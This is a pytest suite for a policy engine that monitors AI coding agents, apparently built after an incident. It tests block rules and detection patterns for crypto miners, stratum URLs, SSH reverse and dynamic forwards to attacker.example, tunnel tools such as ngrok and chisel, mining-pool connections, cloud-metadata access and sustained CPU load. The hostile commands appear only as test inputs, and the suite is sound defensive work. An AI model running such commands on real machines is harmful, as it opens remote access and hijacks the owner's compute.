"""Unit tests for monitor.policy.engine: each matcher, scoping, CPU windows, and the default policy
against the incident and against ordinary agent work."""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from itertools import pairwise

import pytest

from monitor.policy.cpu import CpuWindows, evaluate_cpu
from monitor.policy.engine import (
    Verdict,
    argv_rules,
    evaluate_connect,
    evaluate_exec,
    evaluate_processes,
    match_connect,
    match_exec,
)
from monitor.policy.load import default_policy, load_policy_text
from monitor.policy.types import Action, Mode, Policy, Rule

S = 1_000_000_000  # ns per second
AF_INET, AF_INET6 = 2, 10


def policy(text: str) -> Policy:
    return load_policy_text(textwrap.dedent(text), "test.yaml")


def one_rule(event: str, match: str, *, action: str = "kill", agents: str = "") -> Rule:
    scope = f"\n            agents: [{agents}]" if agents else ""
    p = policy(f"""\
        mode: enforce
        agents:
          - {{name: bot, match: [{{comm: bot}}]}}
          - {{name: other, match: [{{comm: other}}]}}
        lists:
          miners: [xmrig, minerd]
          pool_ports: [3333, "5555-5560"]
        rules:
          - name: r
            event: {event}{scope}
            action: {action}
            match: {match}
    """)
    return p.rules[0]


def execs(rule: Rule, argv: str, *, exe: str | None = None, comm: str | None = None,
          agent: str = "bot") -> bool:
    args = argv.split()
    exe = exe if exe is not None else f"/usr/bin/{args[0]}"
    comm = comm if comm is not None else args[0].rsplit("/", 1)[-1][:15]
    return match_exec(rule, agent, exe, comm, args)


# --- exec --------------------------------------------------------------------------------


def test_name_matches_the_real_executable_or_the_comm() -> None:
    r = one_rule("exec", "{name: ['@miners', averyveryverylongminer]}")
    assert execs(r, "xmrig -o pool:3333")
    assert execs(r, "x", exe="/opt/xmrig/xmrig", comm="x")  # argv[0] and comm lie: exe tells
    assert execs(r, "minerd", exe="/usr/bin/python3.11")  # a script: comm is its name
    assert execs(r, "averyveryverylongminer", exe="/usr/bin/env",
                 comm="averyveryverylo")  # comm is cut to 15 bytes
    # a program whose whole name is those 15 characters has the same comm: documented
    assert execs(r, "averyveryverylo", exe="/usr/bin/averyveryverylo")
    assert not execs(r, "averyveryveryl", exe="/usr/bin/averyveryveryl")
    assert not execs(r, "xmrigger")
    assert not execs(r, "git clone https://example.com/xmrig")


def test_a_renamed_binary_escapes_name_but_not_exe() -> None:
    by_name = one_rule("exec", "{name: [xmrig]}")
    by_exe = one_rule("exec", "{exe: ['/tmp/*', '/dev/shm/*']}")
    argv = "kworker -o pool:3333"
    assert not execs(by_name, argv, exe="/tmp/kworker", comm="kworker")
    assert execs(by_exe, argv, exe="/tmp/kworker", comm="kworker")
    assert not execs(by_exe, "xmrig", exe="/usr/bin/xmrig")


def test_argv_regexes_search_the_joined_command_line() -> None:
    r = one_rule("exec", r"{argv: ['(^|[ =])stratum\+tcp://', '--donate-level']}")
    assert execs(r, "kworker -o stratum+tcp://pool.example:3333")
    assert execs(r, "kworker --url=stratum+tcp://pool.example:3333")
    assert execs(r, "kworker --donate-level 1")
    assert not execs(r, "kworker -o pool.example:3333")


def test_argv_regexes_see_bytes_that_are_not_utf8_as_one_character_each() -> None:
    """An invalid byte (a surrogate once decoded) inside or around the match changes
    nothing: the regex runs over the whole line, whatever its encoding."""
    r = one_rule("exec", r"{argv: ['(^|[ =])stratum\+tcp://.*:3333']}")
    assert execs(r, "kworker --x=\udcff -o stratum+tcp://p\udcffol.example:3333")
    assert execs(r, "kworker \udcc3 -o=stratum+tcp://\udcff\udcfe:3333 \udced\udca0")
    assert not execs(r, "kworker --x=\udcff -o stratum+udp://p\udcffol.example:3333")


def test_a_clipped_argv_is_judged_on_its_whole_line() -> None:
    """More arguments than the monitor splits: argv holds a clip, line the whole of it."""
    stratum = one_rule("exec", r"{argv: ['(^|[ =])stratum\+tcp://']}")
    forward = one_rule("exec", "{ssh: [remote_forward]}")
    pad = " -o SendEnv=A" * 300_000
    clip = ("ssh", "-o", "SendEnv=A", "...[not kept]...", "attacker")
    for rule, line in ((stratum, f"worker{pad} --pool stratum+tcp://pool:3333"),
                       (forward, f"ssh{pad} -R 9000:localhost:22 attacker")):
        assert match_exec(rule, "bot", "/usr/bin/x", "ssh", clip, line=line)
        assert not match_exec(rule, "bot", "/usr/bin/x", "ssh", clip, line=f"ssh{pad} host")
    # ssh: what any argument could request counts, the remote command's too (over-estimate)
    assert match_exec(forward, "bot", "/usr/bin/ssh", "ssh", clip,
                      line=f"ssh{pad} host ssh -R 1:x:2 other")


def test_argv_rules_names_the_rules_a_cut_command_line_could_slip_past() -> None:
    p = policy("""\
        mode: monitor
        agents: [{name: bot, match: [{comm: bot}]}, {name: other, match: [{comm: o}]}]
        rules:
          - {name: a, event: exec, action: kill, match: {name: [xmrig]}}
          - {name: b, event: exec, action: kill, match: {argv: [x]}}
          - {name: c, event: exec, action: alert, match: {ssh: [tunnel]}, agents: [other]}
          - {name: d, event: exec, action: kill, match: {ssh: [remote_forward]}}
    """)
    assert argv_rules(p, "bot") == ["b", "d"]
    assert argv_rules(p, "other") == ["b", "c", "d"]


def test_conditions_are_anded() -> None:
    r = one_rule("exec", "{name: [cloudflared], argv: ['(^| )tunnel( |$)']}")
    assert execs(r, "cloudflared tunnel run x")
    assert not execs(r, "cloudflared proxy-dns")
    assert not execs(r, "tunnel cloudflared", exe="/usr/bin/tunnel")


def test_ssh_features_need_an_ssh_program() -> None:
    r = one_rule("exec", "{ssh: [remote_forward]}")
    assert execs(r, "ssh -fNR 2222:localhost:22 attacker.example")
    assert execs(r, "ssh host -R 2222:localhost:22")  # options after the host count
    assert execs(r, "/usr/bin/ssh -R1:x:2 h", exe="/usr/bin/ssh", comm="ssh")
    assert execs(r, "ssh -R 1:x:2 h", exe="/usr/libexec/renamed", comm="renamed")  # argv[0]
    assert not execs(r, "rsync -R a b")  # -R means something else to rsync
    assert not execs(r, "ssh host ssh -R 1:x:2 other")  # the remote command's business
    assert not execs(r, "ssh -L 8080:localhost:80 host")


def test_agent_scope() -> None:
    r = one_rule("exec", "{name: [xmrig]}", agents="bot")
    assert execs(r, "xmrig", agent="bot")
    assert not execs(r, "xmrig", agent="other")


def test_matchers_ignore_rules_of_other_kinds() -> None:
    r = one_rule("connect", "{port: [3333]}")
    assert not execs(r, "xmrig")
    e = one_rule("exec", "{name: [xmrig]}")
    assert not match_connect(e, "bot", AF_INET, "1.2.3.4", 3333)


def test_evaluate_exec_gives_verdicts_in_rule_order_with_reasons() -> None:
    p = policy("""\
        mode: monitor
        lists:
          miners: [xmrig]
        rules:
          - {name: argv-rule, event: exec, action: alert, match: {argv: ['-o pool']}}
          - {name: name-rule, event: exec, action: kill, match: {name: ['@miners']}}
          - {name: ssh-rule, event: exec, action: kill, match: {ssh: [remote_forward]}}
    """)
    v = evaluate_exec(p, agent="bot", session=7, pid=42, exe="/usr/bin/xmrig", comm="xmrig",
                      argv=["xmrig", "-o", "pool:3333"])
    assert [x.rule for x in v] == ["argv-rule", "name-rule"]
    assert v[1] == Verdict(rule="name-rule", action=Action.KILL, mode=Mode.MONITOR,
                           agent="bot", session=7, pid=42,
                           reason="runs xmrig (name in @miners)", exe="/usr/bin/xmrig",
                           argv=("xmrig", "-o", "pool:3333"))
    assert v[0].reason == "command line matches '-o pool'"
    ssh = evaluate_exec(p, agent="bot", session=7, pid=43, exe="/usr/bin/ssh", comm="ssh",
                        argv=["ssh", "-fNR", "2222:localhost:22", "attacker.example"])
    assert [(x.rule, x.reason) for x in ssh] == [("ssh-rule", "ssh requests remote_forward")]


# --- connect -----------------------------------------------------------------------------


def connects(rule: Rule, address: str, port: int, *, agent: str = "bot") -> bool:
    family = AF_INET6 if ":" in address else AF_INET
    return match_connect(rule, agent, family, address, port)


def test_address_and_port_conditions() -> None:
    r = one_rule("connect", "{address: [10.0.0.0/8, '2001:db8::/32'], port: ['@pool_ports']}")
    assert connects(r, "10.1.2.3", 3333)
    assert connects(r, "10.1.2.3", 5557)
    assert connects(r, "2001:db8::1", 5560)
    assert not connects(r, "10.1.2.3", 443)
    assert not connects(r, "11.1.2.3", 3333)
    assert not connects(r, "2001:db9::1", 3333)


def test_ipv4_mapped_destinations_match_ipv4_rules() -> None:
    r = one_rule("connect", "{address: [1.2.3.0/24], port: [3333]}")
    assert connects(r, "::ffff:1.2.3.4", 3333)
    assert match_connect(r, "bot", AF_INET6, "::ffff:102:304", 3333)
    mapped_rule = one_rule("connect", "{address: ['::ffff:1.2.3.0/120']}")
    assert connects(mapped_rule, "1.2.3.4", 80)
    assert connects(mapped_rule, "::ffff:1.2.3.4", 80)
    assert not connects(mapped_rule, "1.2.4.4", 80)


def test_all_of_ipv6_holds_mapped_ipv4_as_the_kernel_sees_it() -> None:
    r = one_rule("connect", "{address: ['::/0']}")
    assert connects(r, "2001:db8::1", 1)
    assert connects(r, "1.2.3.4", 1)
    assert not connects(one_rule("connect", "{address: ['2000::/3']}"), "1.2.3.4", 1)


def test_family_is_the_destinations_after_normalisation() -> None:
    v4 = one_rule("connect", "{family: ipv4}")
    v6 = one_rule("connect", "{family: ipv6}")
    assert connects(v4, "1.2.3.4", 1) and connects(v4, "::ffff:1.2.3.4", 1)
    assert not connects(v6, "::ffff:1.2.3.4", 1)
    assert connects(v6, "::1", 1) and not connects(v4, "::1", 1)


def test_outside_is_an_egress_allow_list() -> None:
    r = one_rule("connect", "{outside: {address: [127.0.0.0/8, '::1', 10.0.0.0/8], "
                 "port: [443, 22]}}", action="deny", agents="bot")
    assert not connects(r, "127.0.0.1", 443)
    assert not connects(r, "::1", 22)
    assert not connects(r, "::ffff:10.9.9.9", 443)
    assert connects(r, "127.0.0.1", 8080)  # right address, wrong port
    assert connects(r, "93.184.216.34", 443)  # right port, wrong address
    assert connects(r, "2001:db8::1", 443)
    assert not connects(r, "93.184.216.34", 443, agent="other")  # scoped to bot only


def test_outside_with_only_addresses_or_only_ports() -> None:
    addresses = one_rule("connect", "{outside: {address: [10.0.0.0/8]}}")
    assert not connects(addresses, "10.0.0.1", 9999) and connects(addresses, "8.8.8.8", 53)
    ports = one_rule("connect", "{outside: {port: [443]}}")
    assert not connects(ports, "8.8.8.8", 443) and connects(ports, "10.0.0.1", 80)


def test_evaluate_connect_reasons() -> None:
    p = policy("""\
        mode: enforce
        lists:
          mining_ports: [3333, 4444]
        rules:
          - {name: pools, event: connect, action: kill, match: {port: ['@mining_ports']}}
          - {name: meta, event: connect, action: alert, match: {address: [169.254.169.254]}}
          - {name: egress, event: connect, action: deny,
             match: {outside: {address: [10.0.0.0/8]}}}
          - {name: both, event: connect, action: alert,
             match: {address: [1.2.3.0/24], port: ["3000-3999"]}}
    """)
    v = evaluate_connect(p, agent="bot", session=1, pid=9, family=AF_INET6,
                         address="::ffff:1.2.3.4", port=3333)
    assert [(x.rule, x.action, x.reason) for x in v] == [
        ("pools", Action.KILL, "connect to 1.2.3.4:3333 (port in @mining_ports)"),
        ("egress", Action.DENY, "connect to 1.2.3.4:3333 (outside the allowed destinations)"),
        ("both", Action.ALERT, "connect to 1.2.3.4:3333 (address in 1.2.3.0/24, "
                               "port in 3000-3999)"),
    ]
    assert v[0].destination == "1.2.3.4:3333" and v[0].pid == 9 and v[0].session == 1
    meta = evaluate_connect(p, agent="bot", session=1, pid=9, family=AF_INET,
                            address="169.254.169.254", port=80)
    assert meta[0].reason == "connect to 169.254.169.254:80 (address in 169.254.169.254/32)"
    six = evaluate_connect(p, agent="bot", session=1, pid=9, family=AF_INET6,
                           address="2001:db8::1", port=4444)
    assert six[0].destination == "[2001:db8::1]:4444"
    # a datagram sent there meets the same rules, and its reason says what it was
    sent = evaluate_connect(p, agent="bot", session=1, pid=9, family=AF_INET6,
                            address="::ffff:1.2.3.4", port=3333, send=True)
    assert [(x.rule, x.reason) for x in sent] == [
        (x.rule, x.reason.replace("connect to", "datagram to", 1)) for x in v]
    assert sent[0].reason == "datagram to 1.2.3.4:3333 (port in @mining_ports)"


# --- processes ---------------------------------------------------------------------------


def test_processes_above_the_limit() -> None:
    p = policy("""\
        mode: enforce
        rules:
          - {name: fork-bomb, event: processes, action: kill-agent, match: {above: 100}}
    """)
    assert evaluate_processes(p, agent="bot", session=3, live=100) == []
    v = evaluate_processes(p, agent="bot", session=3, live=101, pid=77)
    assert len(v) == 1 and v[0].action == Action.KILL_AGENT and v[0].processes == 101
    assert v[0].pid == 77 and "101 live processes" in v[0].reason


# --- cpu ---------------------------------------------------------------------------------


def feed(windows: CpuWindows, key: tuple[str, int], seconds: int,
         cores_at: Callable[[int], float], *, start: int = 0, cpu: float = 0.0) -> float:
    """One sample per second from start to start+seconds; returns the final cumulative."""
    for t in range(start, start + seconds + 1):
        if t > start:
            cpu += cores_at(t) * S
        windows.observe(key, t * S, int(cpu))
    return cpu


def test_rate_is_none_until_the_window_is_covered() -> None:
    w = CpuWindows()
    key = ("agent", 1)
    feed(w, key, 59, lambda t: 2.0)
    assert w.rate(key, 60) is None
    assert w.rate(key, 30) == pytest.approx(2.0)
    w.observe(key, 60 * S, 120 * S)
    assert w.rate(key, 60) == pytest.approx(2.0)
    assert w.rate(("agent", 2), 1) is None


def test_rate_averages_over_the_window() -> None:
    w = CpuWindows(horizon_s=120)  # one sample a second is kept
    key = ("process", 5)
    feed(w, key, 120, lambda t: 4.0 if t > 90 else 0.0)
    assert w.rate(key, 60) == pytest.approx(2.0)
    assert w.rate(key, 30) == pytest.approx(4.0)


def test_a_burst_shorter_than_the_window_never_fires() -> None:
    w = CpuWindows()
    key = ("agent", 1)
    # 8 cores for 9 of 10 minutes: the average is 7.2 cores, far above 1.0, but the
    # load did not last the whole window.
    feed(w, key, 600, lambda t: 8.0 if t > 60 else 0.0)
    assert w.rate(key, 600) == pytest.approx(7.2)
    assert w.sustained(key, 600, 1.0) is None


def test_sustained_load_fires_and_needs_full_coverage() -> None:
    w = CpuWindows()
    key = ("agent", 1)
    feed(w, key, 599, lambda t: 2.0)
    assert w.sustained(key, 600, 1.8) is None  # 599 s of samples do not cover 600 s
    w.observe(key, 600 * S, 1200 * S)
    assert w.sustained(key, 600, 1.8) == pytest.approx(2.0)
    assert w.sustained(key, 600, 2.0) is None  # above means above


def test_a_counter_that_goes_back_starts_the_window_again() -> None:
    w = CpuWindows()
    key = ("process", 9)
    cpu = feed(w, key, 100, lambda t: 1.0)
    w.observe(key, 101 * S, int(cpu) - 5 * S)  # a reused pid
    assert w.samples(key) == 1
    assert w.rate(key, 50) is None


def test_samples_are_bounded_by_horizon_and_count() -> None:
    w = CpuWindows(horizon_s=60, max_samples=16)
    key = ("agent", 1)
    most = 0
    for t in range(1000):
        w.observe(key, t * S, t * S)
        most = max(most, w.samples(key))
    assert most <= 16
    assert w.rate(key, 60) == pytest.approx(1.0)
    w.forget(key)
    assert key not in w and len(w) == 0


@pytest.mark.parametrize("horizon", [600, 1800, 7200])
def test_kept_samples_are_evenly_spread(horizon: int) -> None:
    w = CpuWindows(horizon_s=horizon)
    key = ("agent", 1)
    feed(w, key, 3 * horizon, lambda t: 1.0)
    times = w.sample_times(key)
    assert times[-1] - times[0] <= (horizon + w.resolution_s + 1) * S
    assert max(b - a for a, b in pairwise(times)) <= (w.resolution_s + 1) * S
    assert w.samples(key) <= w.max_samples


def tick(p: Policy, w: CpuWindows, t: int, sessions: list[tuple[int, str, float,
                                                                list[tuple[int, float]]]]
         ) -> list[Verdict]:
    return evaluate_cpu(p, w, now_ns=t * S, sessions=[
        (s, a, int(c), [(pid, int(pc)) for pid, pc in procs]) for s, a, c, procs in sessions])


CPU_POLICY = """\
    mode: enforce
    agents:
      - {name: bot, match: [{comm: bot}]}
      - {name: other, match: [{comm: other}]}
    rules:
      - {name: agent-hot, event: cpu, agents: [bot], action: kill-agent,
         match: {cores: 1.5, for: 5m}}
      - {name: process-hot, event: cpu, agents: [bot], action: kill,
         match: {cores: 0.9, scope: process, for: 2m}}
"""


def test_evaluate_cpu_fires_for_sustained_load_per_scope() -> None:
    p = policy(CPU_POLICY)
    w = CpuWindows()
    fired: list[tuple[int, str, int]] = []
    for t in range(0, 301):
        # pid 100 burns one core, pid 101 burns 0.7; the agent uses 1.7 cores
        v = tick(p, w, t, [(1, "bot", 1.7 * t * S, [(100, 1.0 * t * S), (101, 0.7 * t * S)]),
                           (2, "other", 4.0 * t * S, [(200, 4.0 * t * S)])])
        fired += [(t, x.rule, x.pid) for x in v]
    assert fired[0] == (120, "process-hot", 100)  # first tick with 2 minutes covered
    assert (299, "agent-hot", 100) not in fired
    assert (300, "agent-hot", 100) in fired  # pid: the process that used the most CPU
    assert not [f for f in fired if f[1] == "process-hot" and f[2] != 100]
    v = tick(p, w, 301, [(1, "bot", 1.7 * 301 * S, [(100, 301.0 * S), (101, 0.7 * 301 * S)])])
    agent = next(x for x in v if x.rule == "agent-hot")
    assert agent.session == 1 and agent.agent == "bot" and agent.cpu_cores == pytest.approx(1.7)
    assert agent.reason == "the agent used 1.70 cores over 5m (more than 1.5 all along)"
    assert ("agent", 2) not in w and ("process", 200) not in w  # no rule applies to "other"


def test_evaluate_cpu_forgets_what_is_gone() -> None:
    p = policy(CPU_POLICY)
    w = CpuWindows()
    tick(p, w, 0, [(1, "bot", 0, [(100, 0), (101, 0)])])
    assert {("agent", 1), ("process", 100), ("process", 101)} <= w.keys()
    tick(p, w, 1, [(1, "bot", S, [(100, S)])])
    assert ("process", 101) not in w
    tick(p, w, 2, [])
    assert len(w) == 0


def test_evaluate_cpu_without_process_rules_keeps_only_sessions() -> None:
    p = policy("""\
        mode: enforce
        rules: [{name: hot, event: cpu, action: kill, match: {cores: 1, for: 10s}}]
    """)
    w = CpuWindows()
    v: list[Verdict] = []
    for t in range(0, 11):
        v = tick(p, w, t, [(1, "bot", 2.0 * t * S, [(10, 0.5 * t * S), (11, 1.5 * t * S)])])
    assert w.keys() == {("agent", 1)}
    assert [(x.rule, x.pid) for x in v] == [("hot", 11)]  # most CPU since it started


# --- the default policy: the incident, and ordinary work -------------------------------------

DEFAULT = default_policy()
KILLS = {Action.KILL, Action.KILL_AGENT}


def exec_verdicts(cmd: str, exe: str | None = None, comm: str | None = None) -> list[Verdict]:
    argv = cmd.split()
    exe = exe or f"/usr/bin/{argv[0]}"
    return evaluate_exec(DEFAULT, agent="claude-code", session=1, pid=100, exe=exe,
                         comm=comm or argv[0][:15], argv=argv)


def connect_verdicts(address: str, port: int) -> list[Verdict]:
    family = AF_INET6 if ":" in address else AF_INET
    return evaluate_connect(DEFAULT, agent="claude-code", session=1, pid=100, family=family,
                            address=address, port=port)


def kills(verdicts: list[Verdict]) -> list[str]:
    return [v.rule for v in verdicts if v.action in KILLS]


SSH_RULE = "ssh-reverse-or-dynamic-forward"


@pytest.mark.parametrize(("cmd", "rule"), [
    ("ssh -fNR 2222:localhost:22 attacker.example", SSH_RULE),
    ("ssh attacker.example -o RemoteForward=2222:localhost:22 -N", SSH_RULE),
    ("ssh -D 1080 -N attacker.example", SSH_RULE),
    ("xmrig -o pool:3333", "no-miners"),
    ("kworker -o stratum+tcp://pool.example:3333 -u wallet", "no-stratum-urls"),
    ("ngrok http 8080", "no-tunnel-tools"),
    ("chisel client attacker.example:8080 R:socks", "no-tunnel-tools"),
    ("cloudflared tunnel --url http://localhost:8080", "public-tunnel-subcommands"),
    ("cloudflared --url http://localhost:8080", "public-tunnel-subcommands"),
    ("tailscale funnel 8080", "public-tunnel-subcommands"),
])
def test_default_policy_kills_the_incident(cmd: str, rule: str) -> None:
    assert kills(exec_verdicts(cmd)) == [rule]


def test_default_policy_kills_mining_pool_connections() -> None:
    assert kills(connect_verdicts("1.2.3.4", 3333)) == ["mining-pool-ports"]
    assert kills(connect_verdicts("::ffff:1.2.3.4", 3333)) == ["mining-pool-ports"]
    assert kills(connect_verdicts("2606:4700::1", 14444)) == ["mining-pool-ports"]
    v = connect_verdicts("1.2.3.4", 3333)[0]
    assert v.reason == ("connect to 1.2.3.4:3333 (address in @public_internet, "
                        "port in @mining_ports)")


@pytest.mark.parametrize("cmd", [
    "git push origin main",
    "gcc -O2 x.c",
    "cc -O2 -o x x.c",
    "make -j8",
    "pip install x",
    "python3 -m pip install requests",
    "npm test",
    "npm install",
    "cargo build --release",
    "apt-get install -y jq",
    "pytest -q tests",
    "ssh host make",
    "ssh -t user@host htop",
    "ssh host ssh -R 9000:localhost:22 other",
    "ssh -L 8080:localhost:80 host",
    "scp file host:/tmp",
    "rsync -R -a src host:dst",
    "socat TCP-LISTEN:8080,fork TCP:localhost:80",
    "cloudflared proxy-dns",
    "cloudflared access tcp --hostname db.example --url localhost:5432",
    "tailscale up",
    "grep -r xmrig .",
    "git clone https://github.com/xmrig/xmrig",
])
def test_default_policy_leaves_ordinary_work_alone(cmd: str) -> None:
    assert kills(exec_verdicts(cmd)) == []


def test_ssh_local_forward_is_only_alerted() -> None:
    v = exec_verdicts("ssh -L 8080:localhost:80 host")
    assert [(x.rule, x.action) for x in v] == [("ssh-local-forward", Action.ALERT)]


@pytest.mark.parametrize(("address", "port"), [
    ("140.82.112.3", 443), ("2606:4700::1", 443), ("151.101.1.69", 443), ("1.2.3.4", 22),
    ("127.0.0.1", 3333),  # a dev server (AdonisJS)
    ("127.0.0.1", 4444),  # Selenium
    ("::1", 5555), ("10.0.0.5", 9999), ("192.168.1.10", 7777), ("172.17.0.2", 3333),
    ("127.0.0.1", 8888),  # Jupyter
])
def test_default_policy_lets_ordinary_connections_through(address: str, port: int) -> None:
    assert connect_verdicts(address, port) == []


def test_default_policy_alerts_on_cloud_metadata() -> None:
    v = connect_verdicts("169.254.169.254", 80)
    assert [(x.rule, x.action) for x in v] == [("cloud-metadata", Action.ALERT)]


def run_agent(seconds: int, cores_at: Callable[[int], float]) -> dict[str, int]:
    """First tick at which each default cpu rule fired for one agent session."""
    w = CpuWindows()
    cpu = 0.0
    first: dict[str, int] = {}
    for t in range(seconds + 1):
        if t:
            cpu += cores_at(t) * S
        for v in evaluate_cpu(DEFAULT, w, now_ns=t * S,
                              sessions=[(1, "claude-code", int(cpu), [(100, int(cpu))])]):
            first.setdefault(v.rule, t)
    return first


def test_default_policy_kills_a_sustained_miner() -> None:
    fired = run_agent(1900, lambda t: 2.0)
    assert fired["cpu-saturation"] == 1800
    assert fired["cpu-sustained-alert"] == 600


def test_default_policy_lets_a_long_build_with_quiet_minutes_survive() -> None:
    # 40 minutes of `make -j8`: 8 cores, but every 10 minutes 2 minutes of linking and
    # configure at one core.
    fired = run_agent(2400, lambda t: 1.0 if t % 600 >= 480 else 8.0)
    assert "cpu-saturation" not in fired


def test_default_policy_ignores_short_bursts() -> None:
    assert run_agent(1900, lambda t: 16.0 if t % 900 < 240 else 0.2) == {}


def test_default_policy_kills_a_fork_bomb_only() -> None:
    assert evaluate_processes(DEFAULT, agent="claude-code", session=1, live=300) == []
    v = evaluate_processes(DEFAULT, agent="claude-code", session=1, live=2001)
    assert [(x.rule, x.action) for x in v] == [("fork-bomb", Action.KILL_AGENT)]
